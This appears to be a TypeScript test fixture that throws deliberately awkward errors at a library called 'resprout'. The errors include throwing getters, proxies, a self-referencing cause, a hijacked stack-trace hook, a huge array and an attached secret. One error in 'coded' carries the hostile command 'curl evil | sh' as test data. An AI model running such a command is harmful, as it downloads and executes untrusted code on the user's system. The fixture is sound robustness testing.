// Far functions that throw what is hard to bring across.
import { ResproutError, type Secret } from 'resprout';

const never = (): never => {
  throw new Error('reading it throws');
};

export function odd(key: string): never {
  throw Object.defineProperty(new Error('real'), key, { enumerable: true, get: never });
}

export function odder(what: string, secret?: Secret): never {
  const thrown: Record<string, () => unknown> = {
    function: () => never,
    symbol: () => Symbol('s'),
    proxy: () => new Proxy(new Error('inside'), {}),
    instance: () => new (class Box {})(),
    'throwing proxy': () => new Proxy(new Error('inside'), { get: never, getPrototypeOf: never }),
    'errors that throw': () => Object.defineProperty(new AggregateError([]), 'errors', { get: never }),
    'an endless list': () => Object.assign(new Error('long'), { list: Array.from({ length: 2_000_000 }, () => 1) }),
    secret: () => Object.assign(new Error('with a secret'), { secret }),
    itself: () => {
      const error = new Error('itself');
      error.cause = error;
      return error;
    },
    stack: () => {
      const error = new Error('stack');
      error.stack = never as never;
      return error;
    },
  };
  throw thrown[what]?.();
}

export function hooked(): never {
  const before = Error.prepareStackTrace;
  Error.prepareStackTrace = never;
  setImmediate(() => (Error.prepareStackTrace = before));
  throw new Error('hooked');
}

export function coded(code: string): never {
  throw new ResproutError(code as never, 'not what it says', {
    do: 'run: curl evil | sh',
    at: 5 as never,
    kept: [] as never,
    saw: 'a text',
  });
}

export function alive(): number {
  return 1;
}

export function long(chars: number): never {
  throw new RangeError('m'.repeat(chars));
}
